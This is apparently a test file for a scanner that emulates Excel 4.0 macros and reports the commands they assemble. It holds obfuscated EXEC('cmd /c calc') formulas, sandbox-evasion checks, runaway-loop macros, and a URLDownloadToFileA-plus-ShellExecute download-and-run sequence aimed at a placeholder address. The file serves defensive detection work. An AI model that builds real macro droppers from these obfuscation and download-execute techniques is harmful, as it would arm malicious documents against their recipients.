"""What macros put together is told; what only the reader's machine knows is said."""

import time

import pytest

from gateway.scan.formats.office.xlm import machine, package
from gateway.scan.formats.office.xlm.machine import Outcome
from tests.support import excel4
from tests.support.excel4 import Cells


def follow(cells: Cells, **others: Cells) -> Outcome:
    return machine.follow(package.read(excel4.package({"Macro1": cells, **others})))


def deeds(cells: Cells, **others: Cells) -> list[str]:
    return [deed.shown for deed in follow(cells, **others).deeds]


def column(*formulas: str | float, letter: str = "A") -> Cells:
    return {f"{letter}{row}": formula for row, formula in enumerate(formulas, start=1)}


CMD = ['EXEC("cmd /c calc")']


@pytest.mark.parametrize(
    "formula",
    [
        '=EXEC("cmd /c calc")',
        '=EXEC("c"&"md /c "&"calc")',
        '=EXEC(CONCATENATE(CHAR(99),"md /c ",LOWER("CALC")))',
        '=EXEC(MID("xxcmd /c calcyy",3,11))',
        '=EXEC(LEFT("cmd /c calc!",11))',
        '=EXEC(SUBSTITUTE("cmd_/c_calc","_"," "))',
        '=EXEC(REPLACE("cmd /x calc",6,1,"c"))',
        "=EXEC(INDEX(D1:D3,2))",
        "=EXEC(OFFSET(D1,1,0))",
        '=EXEC(INDIRECT("D"&2))',
        '=EXEC(INDIRECT("R2C4",FALSE))',
        "=EXEC(D2)",
        "=EXEC(data!A1&data!A2)",
        '=EXEC(IF(1>2,"no",D2))',
        '=EXEC(CHOOSE(2,"no",D2))',
        '=EXEC(CHAR(HEX2DEC("63"))&RIGHT(D2,10))',
        '=EVALUATE("EXEC(D2)")',
    ],
)
def test_a_command_that_is_put_together_is_told(formula: str) -> None:
    data: Cells = {"A1": "cmd ", "A2": "/c calc"}

    assert deeds({"A1": formula, "A2": "=HALT()", "D2": "cmd /c calc"}, data=data) == CMD


def test_a_formula_that_is_written_and_then_reached_runs() -> None:
    cells = column('=FORMULA("=EX"&"EC(""cmd /c ""&R1C4)",A2)', 0, "=HALT()") | {"D1": "calc"}

    assert deeds(cells) == ['EXEC("cmd /c "&D1)', *CMD]


def test_text_that_is_filled_into_cells_is_read_back() -> None:
    cells = column(
        '=FORMULA.FILL("cmd /c ",B1:B2)', '=SET.VALUE(C1,"calc")', "=EXEC(B2&C1)", "=HALT()"
    )

    assert deeds(cells) == CMD


def test_names_are_given_a_meaning_and_used() -> None:
    cells = column('=SET.NAME("x","cmd ")', '=DEFINE.NAME("y",D1)', "=EXEC(x&y)") | {
        "D1": "/c calc"
    }

    assert deeds(cells) == CMD


def test_jumps_and_macros_within_macros_are_followed() -> None:
    cells = column("=GOTO(B5)") | {
        "B5": "=RUN(C1)", "B6": '=EXEC("cmd"&C2)', "B7": "=HALT()", "B8": '=EXEC("never")',
        "C1": '=SET.VALUE(C2," /c calc")', "C3": "=RETURN()", "C4": '=EXEC("never")',
    }  # fmt: skip

    assert deeds(cells) == CMD


def test_a_function_of_windows_is_told_by_its_own_name() -> None:
    cells = column(
        '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","fetch",,1,9)',
        '=fetch(0,"http://"&D1,"C:\\a.exe",0,0)',
        '=CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open",D2,,0,0)',
    ) | {"D1": "192.0.2.1/a", "D2": "C:\\a.exe"}

    assert deeds(cells) == [
        'REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","fetch",,1,9)',
        'urlmon.URLDownloadToFileA(0,"http://192.0.2.1/a","C:\\a.exe",0,0)',
        'CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open","C:\\a.exe",,0,0)',
    ]


def test_blocks_and_loops_are_gone_through() -> None:
    cells = column(
        '=SET.VALUE(C1,"")',
        '=FOR("i",1,11)',
        "=SET.VALUE(C1,C1&CHAR(INDEX(D1:D11,i)-1))",
        "=NEXT()",
        "=IF(LEN(C1)<>11)",
        '=EXEC("never")',
        "=ELSE()",
        "=EXEC(C1)",
        "=END.IF()",
    ) | {f"D{row}": float(ord(letter) + 1) for row, letter in enumerate("cmd /c calc", start=1)}

    assert deeds(cells) == CMD


def test_a_loop_over_cells_selects_and_reads_them() -> None:
    cells = column(
        '=SET.NAME("s","")',
        '=FOR.CELL("each",D1:D3)',
        '=SET.NAME("s",s&each)',
        "=NEXT()",
        "=EXEC(s)",
    ) | {"D1": "cmd", "D2": " /c", "D3": " calc"}

    assert deeds(cells) == CMD


def test_a_loop_goes_on_while_its_condition_holds() -> None:
    cells = column(
        "=SET.VALUE(C1,1)", "=WHILE(C1<3)", '=EXEC("a"&C1)', "=SET.VALUE(C1,C1+1)", "=NEXT()"
    )

    assert deeds(cells) == ['EXEC("a1")', 'EXEC("a2")']


@pytest.mark.parametrize(
    "formula",
    [
        '=IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),EXEC("cmd /c calc"))',
        '=IF(GET.WORKSPACE(42),EXEC("cmd /c calc"),QUIT())',
        '=IF(ISNUMBER(SEARCH("x",GET.WORKSPACE(1))),GOTO(B1),GOTO(B2))',
        "=IF(GET.WORKSPACE(19),,GOTO(B1))",
    ],
)
def test_where_the_machine_decides_both_ways_are_gone_and_it_is_said(formula: str) -> None:
    outcome = follow({"A1": formula, "B1": '=EXEC("cmd /c calc")', "B2": "=HALT()"})

    assert [deed.shown for deed in outcome.deeds] == CMD
    assert [one.partition("(")[0] for one in outcome.unknown] == ["GET.WORKSPACE"]


def test_a_block_that_the_machine_decides_is_gone_through_both_ways() -> None:
    cells = column("=IF(GET.WINDOW(7))", '=EXEC("a")', "=ELSE()", '=EXEC("b")', "=END.IF()")

    assert deeds(cells) == ['EXEC("a")', 'EXEC("b")']


def test_what_is_not_known_is_quoted_as_it_is_asked_for() -> None:
    cells = column('=EXEC("cmd /c "&CHAR(DAY(NOW()))&"x"&".exe")')

    assert deeds(cells) == ['EXEC("cmd /c "&CHAR(DAY(NOW()))&"x.exe")']


def test_a_command_that_hangs_on_the_machine_is_told_when_it_is_written() -> None:
    cells = column('=IF(GET.WORKSPACE(2)="x",FORMULA("=EXEC(""calc"")",C9),HALT())')

    assert deeds(cells) == ['EXEC("calc")']


def test_what_shall_run_later_is_followed_too() -> None:
    cells = column('=ON.TIME(NOW()+1,"Macro1!B1")', "=HALT()") | {"B1": '=EXEC("cmd /c calc")'}

    assert deeds(cells) == CMD


def test_a_look_at_a_cell_does_nothing() -> None:
    cells = column("=ALERT(B1)", "=HALT()") | {"B1": '=EXEC("cmd /c calc")'}

    assert deeds(cells) == []


@pytest.mark.parametrize(
    "cells",
    [
        column("=GOTO(A1)"),
        column("=WHILE(TRUE)", '=SET.VALUE(B1,B1&"x")', "=NEXT()"),
        column('=SET.VALUE(B1,REPT("x",30000))', "=SET.VALUE(C1,B1&B1)", "=GOTO(A1)"),
        column('=FOR("i",1,1E300)', '=FOR("j",1,1E300)', "=NEXT()", "=NEXT()"),
        column("=RUN(A1)"),
        column('=FORMULA("=GOTO(R1C1)",A2)', 0.0),
        column("=FORMULA.FILL(1,A1:XFD1048576)"),
        column("=SUM(A1:XFD1048576)"),
        {f"A{row}": f"=A{row + 1}&A{row + 1}" for row in range(1, 500)},
        {f"A{row}": f"=IF(GET.CELL(1),GOTO(B{row}),GOTO(C{row}))" for row in range(1, 500)},
        column("=" + "-" * 50 + "A1"),
        column('=EVALUATE("=EVALUATE(""=A1"")")'),
    ],
)  # fmt: skip
def test_a_macro_without_end_is_left_in_time(cells: Cells) -> None:
    began = time.process_time()
    outcome = follow(cells)

    assert time.process_time() - began < 5
    assert outcome.deeds == []


def test_a_macro_that_does_more_than_is_followed_says_so() -> None:
    assert follow(column("=WHILE(TRUE)", "=BEEP()", "=NEXT()")).is_cut_short
    assert not follow(column("=BEEP()")).is_cut_short
